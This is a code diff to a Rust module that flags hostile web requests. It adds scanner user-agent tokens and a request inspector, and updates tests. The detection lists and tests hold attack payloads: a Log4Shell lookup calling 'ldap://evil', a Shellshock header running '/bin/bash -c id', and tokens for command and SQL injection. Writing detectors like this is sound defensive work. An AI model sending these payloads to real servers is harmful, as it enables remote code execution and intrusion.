@@ -10,77 +10,8 @@
 
 use aho_corasick::AhoCorasick;
 
-/// Kinds of hostile request.
-#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
-#[repr(u8)]
-pub enum Category {
-    /// Code Red / Nimda era IIS probes: `cmd.exe`, `root.exe`, `default.ida`, Unicode and
-    /// double-encoded directory traversal into `winnt/system32`.
-    IisWorm,
-    /// FrontPage server extension exploits (`fp30reg.dll`, `_vti_bin`).
-    FrontPage,
-    /// `../` and its encodings, and the files traversal aims at.
-    PathTraversal,
-    /// Shell commands in the request (`| id |`, `;wget`, `/bin/sh`).
-    CommandInjection,
-    /// SQL injection (`union select`, `' or 1=1`, `sleep(`).
-    SqlInjection,
-    /// Probes for vulnerable PHP applications and tools (awstats `configdir`, phpMyAdmin,
-    /// phpBB, phpunit `eval-stdin.php`, `php://` wrappers).
-    PhpProbe,
-    /// Probes for files that must never be served (`.env`, `.git/`, `wp-config.php`).
-    SensitiveFile,
-    /// `() {` of Shellshock in a header.
-    Shellshock,
-    /// `${jndi:` of Log4Shell anywhere.
-    Log4Shell,
-    /// The user agent of a scanner or attack tool (Nikto, sqlmap, masscan, zgrab, Nuclei...).
-    ScannerAgent,
-}
-
-impl Category {
-    /// Every category, in bit order.
-    pub const ALL: [Category; 10] = [
-        Category::IisWorm,
-        Category::FrontPage,
-        Category::PathTraversal,
-        Category::CommandInjection,
-        Category::SqlInjection,
-        Category::PhpProbe,
-        Category::SensitiveFile,
-        Category::Shellshock,
-        Category::Log4Shell,
-        Category::ScannerAgent,
-    ];
-
-    /// The category's bit in a set of categories (a `u32` mask).
-    pub fn bit(self) -> u32 {
-        1 << self as u8
-    }
-
-    /// The category's name, as reasons and JSON carry it.
-    pub fn name(self) -> &'static str {
-        match self {
-            Category::IisWorm => "iis-worm-probe",
-            Category::FrontPage => "frontpage-exploit",
-            Category::PathTraversal => "path-traversal",
-            Category::CommandInjection => "command-injection",
-            Category::SqlInjection => "sql-injection",
-            Category::PhpProbe => "php-vulnerability-probe",
-            Category::SensitiveFile => "sensitive-file-probe",
-            Category::Shellshock => "shellshock",
-            Category::Log4Shell => "log4shell",
-            Category::ScannerAgent => "scanner-user-agent",
-        }
-    }
-
-    /// The categories of a bit set.
-    pub fn of_mask(mask: u32) -> impl Iterator<Item = Category> {
-        Category::ALL
-            .into_iter()
-            .filter(move |c| mask & c.bit() != 0)
-    }
-}
+pub use crate::category::Category;
+use crate::inspect::{Finding, Inspector};
 
 /// Tokens looked for in the request target.
 const TARGET_TOKENS: &[(&str, Category)] = &[
@@ -183,12 +114,27 @@ const AGENT_TOKENS: &[(&str, Category)] = &[
     ("morfeus", Category::ScannerAgent),
     ("zmeu", Category::ScannerAgent),
     ("jorgee", Category::ScannerAgent),
+    ("arachni", Category::ScannerAgent),
+    ("skipfish", Category::ScannerAgent),
+    ("wfuzz", Category::ScannerAgent),
+    ("commix", Category::ScannerAgent),
+    ("xsser", Category::ScannerAgent),
+    ("netsparker", Category::ScannerAgent),
+    ("webinspect", Category::ScannerAgent),
+    ("appscan", Category::ScannerAgent),
+    ("paros", Category::ScannerAgent),
+    ("pangolin", Category::ScannerAgent),
+    ("bsqlbf", Category::ScannerAgent),
+    ("jbrofuzz", Category::ScannerAgent),
+    ("whatweb", Category::ScannerAgent),
+    ("dirb/", Category::ScannerAgent),
 ];
 
-/// The two automatons, built once.
+/// The two automatons and the request inspector ([`crate::inspect`]), built once.
 pub struct Patterns {
     target: AhoCorasick,
     agent: AhoCorasick,
+    inspector: Inspector,
 }
 
 impl Default for Patterns {
@@ -209,6 +155,7 @@ impl Patterns {
         Patterns {
             target: build(TARGET_TOKENS),
             agent: build(AGENT_TOKENS),
+            inspector: Inspector::new(),
         }
     }
 
@@ -216,35 +163,56 @@ impl Patterns {
     pub fn scan(&self, target: &str, agent: Option<&str>, referer: Option<&str>) -> u32 {
         self.scan_target(target)
             | agent.map_or(0, |a| self.scan_header(a))
-            | referer.map_or(0, |r| self.scan_header(r))
+            | referer.map_or(0, |r| self.scan_referer(r))
     }
 
-    /// The categories of a request target.
+    /// The categories of a request target: its tokens, and what inspecting its path and
+    /// parameters finds.
     pub fn scan_target(&self, target: &str) -> u32 {
         let mut mask = 0;
         for m in self.target.find_overlapping_iter(target) {
             mask |= TARGET_TOKENS[m.pattern().as_usize()].1.bit();
         }
-        mask
+        let mut found = Finding::default();
+        self.inspector.target(target, &mut found);
+        mask | found.mask
     }
 
-    /// The categories of a user agent or referer.
+    /// The categories of a user agent: its tokens, and what inspecting it finds.
     pub fn scan_header(&self, text: &str) -> u32 {
         let mut mask = 0;
         for m in self.agent.find_overlapping_iter(text) {
             mask |= AGENT_TOKENS[m.pattern().as_usize()].1.bit();
         }
-        mask
+        let mut found = Finding::default();
+        self.inspector.header(text, &mut found);
+        mask | found.mask
     }
 
-    /// The categories of a referer: only the header exploits apply there (Shellshock and
-    /// Log4Shell), and both need a `{`, so most referers cost one byte search.
+    /// The categories of a referer: the header exploits (Shellshock and Log4Shell, which
+    /// need a `{`) and what inspecting it finds. A referer is the URL of a page, scanned on
+    /// every request: one of only URL characters, as nearly all are, is not inspected.
     pub fn scan_referer(&self, text: &str) -> u32 {
-        if text.as_bytes().contains(&b'{') {
-            self.scan_header(text) & (Category::Shellshock.bit() | Category::Log4Shell.bit())
-        } else {
-            0
+        let b = text.as_bytes();
+        let mut mask = 0;
+        if b.contains(&b'{') {
+            for m in self.agent.find_overlapping_iter(text) {
+                mask |= AGENT_TOKENS[m.pattern().as_usize()].1.bit();
+            }
+            mask &= Category::Shellshock.bit() | Category::Log4Shell.bit();
         }
+        let unusual = |c: &u8| {
+            matches!(
+                c,
+                b'%' | b'\'' | b'"' | b'<' | b'>' | b'(' | b'{' | b'`' | b'|' | b'$' | b'\\'
+            ) || c.is_ascii_whitespace()
+        };
+        if b.iter().any(unusual) || !text.contains("://") {
+            let mut found = Finding::default();
+            self.inspector.header(text, &mut found);
+            mask |= found.mask;
+        }
+        mask
     }
 }
 
@@ -283,13 +251,15 @@ mod tests {
                 "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                 vec!["php-vulnerability-probe"],
             ),
-            ("/?x=${jndi:ldap://evil/a}", vec!["log4shell"]),
+            // The lookup also names an LDAP server for the application to reach.
+            ("/?x=${jndi:ldap://evil/a}", vec!["log4shell", "ssrf"]),
         ] {
             assert_eq!(names(p.scan(target, None, None)), want, "{target}");
         }
+        // Shellshock's function definition, and the command it runs.
         assert_eq!(
             names(p.scan("/", Some("() { :; }; /bin/bash -c id"), None)),
-            ["shellshock"]
+            ["command-injection", "shellshock"]
         );
         assert_eq!(
             names(p.scan("/", Some("Mozilla/5.00 (Nikto/2.1.6)"), None)),
